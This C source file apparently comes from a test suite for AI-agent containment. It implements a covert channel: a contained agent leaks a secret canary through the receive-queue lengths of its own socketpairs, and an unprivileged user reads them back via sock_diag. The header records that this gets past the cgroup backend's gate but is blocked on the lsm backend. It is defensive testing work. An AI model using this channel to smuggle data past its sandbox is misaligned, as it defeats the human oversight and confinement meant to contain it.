// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* unix_pair_rqlen - bytes queued in the agent's OWN socketpairs, read through sock_diag, with no
 * gated call at all: after the recv the agent makes one AF_UNIX SOCK_STREAM socketpair per canary
 * byte and writes (byte value) bytes into its first end, never reading them. NETLINK_SOCK_DIAG
 * (unix_diag, UDIAG_SHOW_RQLEN | UDIAG_SHOW_PEER) shows every user the second end's receive queue
 * length (UNIX_DIAG_RQLEN udiag_rqueue: the bytes queued), with its inode and its peer's.
 * Verifier: uid 65534 dumps the established UNIX stream sockets at sync "set", keeps the ends
 * with a non-empty receive queue, orders them by inode and looks for the canary's bytes as
 * consecutive queue lengths.
 * Bandwidth: one queue length per pair, up to the socket buffer (~200 KiB: ~17 bits); the fd
 * limit bounds the pairs held at once (~500), re-read at will, and the agent can drain and refill.
 * No shutdown, no lock, no socket option: the gate sees nothing; a cgroup hook sees no send on a
 * socketpair (docs/kernel.md: sendmsg hooks judge only addressed UNIX datagrams).
 * Result: host (cgroup backend, 6.18): LEAKED user and root. Guest (lsm backend, 6.1): BLOCKED,
 * the write to the socketpair fails with EPERM (socket_sendmsg refuses the tainted agent's send).
 * Control (MNC_ATTACKS_CONTROL=1): verified.
 * Fix idea (cgroup backend): a network namespace per agent (unix_diag is per namespace); no
 * cgroup hook sees a socketpair's stream writes.
 * Status: a known limit of the cgroup backend ([limit:cgroup]; docs/threat-model.md, "Open on
 * the cgroup backend only"); counted, and blocked, on the lsm backend. */
#include <stdint.h>
#include <sys/socket.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/unix_diag.h>

#include "atk.h"

#define UP_PAIRS 14 /* "mk" + 12 hex: 14 bytes */
#define UP_MAX 4096

static int agent(struct atk_ctx *c)
{
    static int sv[UP_PAIRS][2];
    static char fill[256];
    size_t n = strlen(c->secret);
    if (n > UP_PAIRS)
        n = UP_PAIRS;
    int done = 0, bad = 0;
    for (size_t i = 0; i < n; i++) {
        size_t v = (unsigned char)c->secret[i];
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv[i]) != 0) {
            atk_try(c, "socketpair", -1);
            return 0;
        }
        if (write(sv[i][0], fill, v) == (ssize_t)v)
            done++;
        else
            bad = errno;
    }
    atk_say(c, "note wrote %d socketpair queues, last error %d", done, bad);
    atk_sync(c, "set"); /* the pairs stay open until the agent exits */
    return 0;
}

struct up_sock {
    uint32_t ino, peer;
    uint32_t rq;
};

static int up_cmp(const void *a, const void *b)
{
    const struct up_sock *x = a, *y = b;
    return x->ino < y->ino ? -1 : x->ino > y->ino;
}

/* every established UNIX stream socket with its peer and shutdown state; the count, or -1 */
static int up_dump(struct up_sock *out, int cap)
{
    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
    if (s < 0)
        return -1;
    struct {
        struct nlmsghdr h;
        struct unix_diag_req r;
    } req = {
        .h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
        .r = {.sdiag_family = AF_UNIX,
              .udiag_states = 1u << 1 /* TCP_ESTABLISHED */,
              .udiag_show = UDIAG_SHOW_PEER | UDIAG_SHOW_RQLEN}};
    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
        close(s);
        return -1;
    }
    static char buf[1 << 16];
    int got = 0;
    for (;;) {
        ssize_t r = recv(s, buf, sizeof(buf), 0);
        if (r <= 0)
            break;
        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
                close(s);
                return got;
            }
            const struct unix_diag_msg *m = NLMSG_DATA(h);
            if (m->udiag_type != SOCK_STREAM || got >= cap)
                continue;
            int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
            struct up_sock u = {m->udiag_ino, 0, 0};
            for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
                if (at->rta_type == UNIX_DIAG_PEER && RTA_PAYLOAD(at) >= 4)
                    memcpy(&u.peer, RTA_DATA(at), 4);
                else if (at->rta_type == UNIX_DIAG_RQLEN && RTA_PAYLOAD(at) >= sizeof(struct unix_diag_rqlen))
                    u.rq = ((const struct unix_diag_rqlen *)RTA_DATA(at))->udiag_rqueue;
            }
            if (u.rq != 0 && u.rq < 256 && u.peer != 0)
                out[got++] = u;
        }
    }
    close(s);
    return got;
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    static struct up_sock u[UP_MAX];
    int k = up_dump(u, UP_MAX);
    if (k <= 0)
        return 0;
    qsort(u, (size_t)k, sizeof(u[0]), up_cmp);
    size_t cl = strlen(c->canary);
    for (int off = 0; off + (int)cl <= k; off++) {
        char got[32] = {0};
        for (size_t i = 0; i < cl && i < sizeof(got) - 1; i++)
            got[i] = (char)u[off + (int)i].rq;
        if (strcmp(got, c->canary) == 0) {
            snprintf(out, n,
                     "uid 65534 read the canary from the receive queue lengths of %zu socketpairs (NETLINK_SOCK_DIAG "
                     "UNIX_DIAG_RQLEN, ordered by inode; %d queued ends in the dump)",
                     cl, k);
            return 1;
        }
    }
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "set") != 0)
        return;
    char out[240];
    if (atk_as_uid(c, ATK_NOBODY, rd, out, sizeof(out)) == 1)
        atk_evidence(c, "%s", out);
}

static const struct atk A = {"unix_pair_rqlen",
                             "bytes queued in the agent's own socketpairs, read through unix sock_diag",
                             ATK_LIMIT_CGROUP,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
